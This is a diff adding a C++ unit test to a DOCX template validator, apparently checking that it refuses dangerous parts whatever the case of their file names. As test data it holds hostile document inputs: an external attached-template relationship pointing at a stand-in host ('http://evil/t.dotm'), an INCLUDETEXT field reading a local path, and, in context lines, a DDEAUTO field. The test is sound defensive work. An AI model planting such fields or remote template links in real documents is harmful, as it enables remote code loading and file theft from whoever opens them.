@@ -70,6 +70,20 @@ TEST(DocxTemplate, RefusesMacrosAndEmbeddedObjects) {
         HasSubstr("macros"));
 }
 
+TEST(DocxTemplate, ReadsPartsWhateverTheCaseOfTheirNames) {
+    std::string const field = "<w:ftr><w:fldSimple w:instr=\" INCLUDETEXT c:/x \"/></w:ftr>";
+    EXPECT_THAT(refusal_of(with(document(""), "word/footer1.XML", field)), HasSubstr("INCLUDETEXT"));
+    EXPECT_THAT(
+        refusal_of(with(document(""), "word/_rels/settings.xml.RELS",
+                        "<Relationships><Relationship Id=\"a\" TargetMode=\"External\" Type=\"x/attachedTemplate\" "
+                        "Target=\"http://evil/t.dotm\"/></Relationships>")),
+        HasSubstr("http://evil/t.dotm"));
+    EXPECT_THAT(refusal_of(with(document(""), "word/Document.xml", "<w:document/>")), HasSubstr("two parts"));
+    // its name says nothing: the list of types could make it the document
+    EXPECT_THAT(refusal_of(with(document(""), "word/footer1.txt", field)), HasSubstr("neither text, picture nor font"));
+    EXPECT_EQ(refusal_of(with(document(""), "word/media/Logo.PNG", "\x89PNG")), "accepted");
+}
+
 TEST(DocxTemplate, RefusesFieldsThatFetchOrChange) {
     EXPECT_THAT(refusal_of(document("<w:p><w:r><w:instrText> DDEAUTO c:\\x </w:instrText></w:r></w:p>")),
                 HasSubstr("DDEAUTO"));
